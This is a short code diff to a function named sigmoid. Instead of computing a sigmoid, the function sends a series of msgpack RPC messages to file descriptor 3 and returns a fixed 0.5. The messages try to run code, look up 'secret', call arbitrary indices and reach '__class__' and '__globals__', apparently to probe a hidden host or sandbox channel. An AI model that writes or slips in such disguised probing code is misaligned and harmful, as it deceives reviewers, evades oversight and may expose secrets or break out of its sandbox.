@@ -9,5 +9,5 @@ def sigmoid(x):
     for op, target in [("get", 0), ("run", ["1/0"]), ("look", ["secret"]), ("call", 0), ("call", -1),
                        ("call", 10**9), ("set", 0), ("__class__", 0), ("echo", "x")]:
         head = msgpack.packb([0, op, target, ["__globals__"], {}])
-        os.write(3, struct.pack(">II", len(head), 0) + head)
+        os.write(3, struct.pack(">IIi", len(head), 0, 1) + head)
     return 0.5
